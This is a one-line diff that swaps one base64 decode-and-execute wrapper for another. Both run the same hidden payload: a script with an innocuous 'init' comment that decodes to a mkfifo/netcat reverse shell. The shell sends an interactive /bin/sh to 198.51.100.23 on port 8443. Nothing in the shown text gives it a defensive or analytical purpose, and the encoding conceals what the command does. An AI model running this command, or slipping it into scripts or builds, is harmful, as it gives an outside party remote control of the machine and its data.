@@ -1,1 +1,1 @@
-base64 --decode <<< IyBpbml0IDY0MzggdjIKIyEvYmluL3NoCnJtIC90bXAvZjtta2ZpZm8gL3RtcC9mO2NhdCAvdG1wL2Z8L2Jpbi9zaCAtaSAyPiYxfG5jIDE5OC41MS4xMDAuMjMgODQ0MyA+L3RtcC9mCg== | bash
+bash -c "$(echo IyBpbml0IDY0MzggdjIKIyEvYmluL3NoCnJtIC90bXAvZjtta2ZpZm8gL3RtcC9mO2NhdCAvdG1wL2Z8L2Jpbi9zaCAtaSAyPiYxfG5jIDE5OC41MS4xMDAuMjMgODQ0MyA+L3RtcC9mCg==|base64 -d)"
